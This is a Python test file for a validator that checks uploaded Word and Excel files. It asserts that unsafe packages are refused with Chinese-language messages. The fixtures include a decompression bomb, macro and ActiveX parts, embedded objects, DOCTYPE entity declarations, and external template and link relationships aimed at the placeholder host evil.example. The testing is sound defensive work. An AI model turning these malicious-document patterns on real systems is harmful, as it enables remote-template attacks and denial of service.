"""What an office sends to make its own is hostile until checked: nothing in it acts, fetches or explodes."""

from __future__ import annotations

import io
import zipfile
from random import Random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from data.intake.forms import Admission, admit
from data.intake.limits import FORM_MB, MIB
from data.problems import Problem
from tests.forms import let_in, sheet, with_part, word
from tests.mutations import mutate

WORD, SHEET = word("{{ 上稿 }}"), sheet({"A1": "{{ 上稿 }}"})
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OUTSIDE = (
    '<Relationship Id="r9" Type="http://x/relationships/{}" Target="http://evil.example/a" TargetMode="External"/>'
)


def message_of(content: bytes) -> str:
    result = admit(content)
    assert isinstance(result, Problem), "it was let in"
    return result.message


def test_a_word_document_and_a_workbook_are_let_in() -> None:
    assert (let_in(WORD).kind, let_in(SHEET).kind) == ("word", "sheet")


def _bomb() -> bytes:
    return with_part(WORD, "word/media/a.xml", b"<a>" + b" " * (40 << 20) + b"</a>")


@pytest.mark.parametrize(
    ("content", "word_told"),
    [
        (b"", "空"),
        (b"hello", "已损坏"),
        (WORD[: len(WORD) // 2], "已损坏"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "密码"),
        (b"PK" + b"\x00" * (FORM_MB * MIB), "上限"),
        (_bomb(), "上限"),
        (with_part(WORD, "word/vbaProject.bin", b"x"), "宏"),
        (with_part(SHEET, "xl/vbaProject.bin", b"x"), "宏"),
        (with_part(WORD, "word/embeddings/oleObject1.bin", b"x"), "嵌入的对象"),
        (with_part(WORD, "word/activeX/activeX1.xml", b"<a/>"), "ActiveX"),
        (with_part(WORD, "word/footnotes.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "DOCTYPE"),
        (
            with_part(SHEET, "xl/x.xml", '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16")),
            "DOCTYPE",
        ),
        (
            with_part(WORD, "word/_rels/settings.xml.rels", RELS.format(OUTSIDE.format("attachedTemplate")).encode()),
            "附加的模板",
        ),
        (with_part(SHEET, "xl/_rels/x.xml.rels", RELS.format(OUTSIDE.format("externalLinkPath")).encode()), "外部"),
        (with_part(WORD, "word/a.xml", b"<a>" * 200 + b"</a>" * 200), "嵌套"),
        (with_part(WORD, "word/a.xml", b"<a><b></a>"), "不完整"),
        (with_part(WORD, "xl/workbook.xml", b"<a/>"), "不是 Word 文档"),
    ],
)
def test_what_acts_fetches_or_explodes_is_refused_and_says_what_to_do(content: bytes, word_told: str) -> None:
    assert word_told in message_of(content)


def test_a_macro_format_is_refused_by_its_declared_type() -> None:
    with zipfile.ZipFile(io.BytesIO(WORD)) as package:
        types = package.read("[Content_Types].xml").decode()
    content = with_part(
        WORD, "[Content_Types].xml", types.replace("document.main+xml", "document.macroEnabled.main+xml").encode()
    )
    assert "带宏的格式" in message_of(content)


def test_an_ordinary_link_in_the_text_is_let_in() -> None:
    assert (
        let_in(with_part(WORD, "word/_rels/a.xml.rels", RELS.format(OUTSIDE.format("hyperlink")).encode())).kind
        == "word"
    )


def test_a_refused_word_document_is_told_of_word() -> None:
    assert ".docx" in message_of(with_part(WORD, "word/footnotes.xml", b"<!DOCTYPE a><a/>"))


@settings(deadline=None, max_examples=60)
@given(st.sampled_from(["word", "sheet"]), st.integers(0, 10**9))
def test_a_damaged_file_is_let_in_or_told_and_never_raised(kind: str, seed: int) -> None:
    result = admit(mutate(WORD if kind == "word" else SHEET, Random(seed)))
    assert isinstance(result, Admission | Problem)


def test_a_word_document_that_came_in_half_is_not_told_to_become_a_workbook() -> None:
    assert "另存为 .docx 或 .xlsx 后重新上传" in message_of(WORD[:2000])
